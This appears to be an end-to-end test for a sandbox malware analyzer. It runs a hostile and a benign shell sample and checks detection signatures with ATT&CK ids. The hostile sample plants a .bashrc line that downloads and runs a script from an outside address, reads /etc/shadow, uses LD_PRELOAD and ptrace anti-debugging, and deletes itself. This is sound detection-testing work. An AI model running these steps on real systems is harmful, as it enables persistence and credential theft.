// Linux signatures on real runs: a netns guest (physical driver, `aviary agent`, namespaces avsg44)
// runs two shell samples under Aviary's analyzer and strace. The hostile one changes a shell
// start-up file (in its own HOME under the guest's private /tmp: the guest shares the host's other
// files, so nothing outside /tmp is written), starts a program with LD_PRELOAD, reads /etc/shadow,
// asks to be traced (PTRACE_TRACEME, through Python's ctypes) and deletes itself; the benign one
// lists a folder, asks who it is and writes a file. Each signature is checked through the API's
// report, with its evidence and ATT&CK ids; the benign run fires none.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { NetnsGuest } from '../guests/netns-guest'
import { startNetnsAnalysisNode } from '../guests/netns-analysis-node'
import type { Harness } from '../service-harness'
import { submitFile, waitForTask } from './e2e-helpers'
import { schemaProblems } from '../report-contract'

const HOSTILE = `#!/bin/sh
export HOME=/tmp/sg-home
mkdir -p "$HOME"
echo 'curl -s http://203.0.113.9/x | sh' >> "$HOME/.bashrc"
LD_PRELOAD=/tmp/sg-missing.so /bin/true 2>/dev/null
head -c 16 /etc/shadow > /dev/null
python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'
rm -f "$0"
`

const BENIGN = `#!/bin/sh
ls / > /dev/null
id > /tmp/sg-id.txt
cat /etc/hostname > /dev/null
`

interface Mark { type: string; ioc?: string; call?: { api: string; arguments: Record<string, unknown> } }
interface Sig { name: string; ttp: Record<string, { short: string }>; marks: Mark[] }

describe('Linux signatures on real runs', () => {
  let guest: NetnsGuest
  let h: Harness
  let hostile: { signatures: Sig[] }
  let benign: { signatures: Sig[] }

  beforeAll(async () => {
    ;({ guest, h } = await startNetnsAnalysisNode({ index: 44, prefix: 'avsg' }))
    const a = await submitFile(h, 'implant.sh', HOSTILE, { timeout: '30' })
    const b = await submitFile(h, 'tidy.sh', BENIGN, { timeout: '30' })
    for (const id of [a, b]) expect(await waitForTask(h, id, ['reported', 'failed_analysis', 'failed_processing'], 150_000)).toBe('reported')
    hostile = (await h.json<typeof hostile>(`/tasks/report/${a}`)).body
    benign = (await h.json<typeof benign>(`/tasks/report/${b}`)).body
    expect(schemaProblems(hostile)).toEqual([])
    expect(schemaProblems(benign)).toEqual([])
  }, 300_000)

  afterAll(async () => {
    await h?.stop()
    await guest?.close()
  })

  const sig = (name: string): Sig | undefined => hostile.signatures.find((s) => s.name === name)

  it('persistence_shell_rc: the .bashrc it appended to', () => {
    expect(sig('persistence_shell_rc')?.marks.map((m) => m.ioc)).toContain('/tmp/sg-home/.bashrc')
    expect(Object.keys(sig('persistence_shell_rc')!.ttp)).toEqual(['T1546.004'])
  })

  it('ld_preload: the execve whose environment sets LD_PRELOAD, as a call mark', () => {
    const m = sig('ld_preload')?.marks.find((x) => x.type === 'call')
    expect(m?.call?.api).toBe('execve')
    expect(m?.call?.arguments.environment).toContain('LD_PRELOAD=/tmp/sg-missing.so')
    expect(Object.keys(sig('ld_preload')!.ttp)).toEqual(['T1574.006'])
  })

  it('reads_credentials: /etc/shadow, with T1003.008', () => {
    expect(sig('reads_credentials')?.marks.map((m) => m.ioc)).toContain('/etc/shadow')
    // Password hashes are OS credential dumping, not credentials in files.
    expect(Object.keys(sig('reads_credentials')!.ttp)).toEqual(['T1003.008'])
  })

  it('antidebug_ptrace: the PTRACE_TRACEME call, refused because strace already traces it', () => {
    const m = sig('antidebug_ptrace')?.marks[0]
    expect(m?.call?.api).toBe('ptrace')
    expect(m?.call?.arguments.request).toBe('PTRACE_TRACEME')
    expect(Object.keys(sig('antidebug_ptrace')!.ttp)).toEqual(['T1622'])
  })

  it('deletes_self: the sample removed its own file', () => {
    expect(sig('deletes_self')?.marks.some((m) => (m.ioc ?? '').endsWith('implant.sh'))).toBe(true)
  })

  it('the benign script fires none of them, nor anything else', () => {
    expect(benign.signatures.map((s) => s.name)).toEqual([])
  })
})
